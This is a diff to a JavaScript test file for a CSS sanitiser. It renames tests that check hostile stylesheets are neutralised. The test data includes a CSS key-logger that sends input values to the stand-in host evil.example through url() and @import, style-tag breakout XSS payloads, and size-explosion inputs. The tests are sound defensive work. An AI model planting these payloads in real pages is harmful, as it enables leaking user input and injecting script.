@@ -59,28 +59,28 @@ test.each([
   '*[data-gjs-type]{color:red}',
   'a[x="\n"]{color:red}',
   '</style><script>alert(1)</script>{color:red}',
-])('nothing is left of %j', (css) => {
+])('%j is removed completely', (css) => {
   expect(scoped(css)).toBe('')
 })
 
-test('a key logger has nowhere to report to', () => {
+test('a key logger has no address to report to', () => {
   const css = scoped('input[value^="a"]{background:url(https://evil.example/a)}@import url(//evil.example);')
   expect(css).toBe('§ input[value^="a"]{background:none;}')
 })
 
-test('broken CSS loses what is broken, and nothing gets out of the style element', () => {
+test('the invalid parts of CSS are dropped, and nothing escapes the style element', () => {
   expect(scoped('a{color:red;"}b{top:0}')).not.toContain('</')
   expect(scoped('a{content:"</style><img src=x onerror=alert(1)>"} b{top:0}')).toBe('§ b{top:0;}')
   expect(scoped('a{color:red')).toBe('§ a{color:red;}')
 })
 
-test('nested lists cannot grow without end', () => {
+test('nested lists cannot grow without limit', () => {
   const list = Array.from({ length: 20 }, (_, at) => `.c${at}`).join(',')
   const deep = `${`${list}{`.repeat(6)}top:0${'}'.repeat(6)}`
   expect(scoped(deep).length).toBeLessThan(200_000)
 })
 
-test('a sheet that would become enormous is refused before it is', () => {
+test('a sheet that would become too large is rejected in advance', () => {
   const list = Array.from({ length: 900 }, (_, at) => `.a${at}`).join(',')
   expect(() => scoped(`${list}{${'&b{x:y}'.repeat(20_000)}}`)).toThrow('larger than 4 MB')
 })
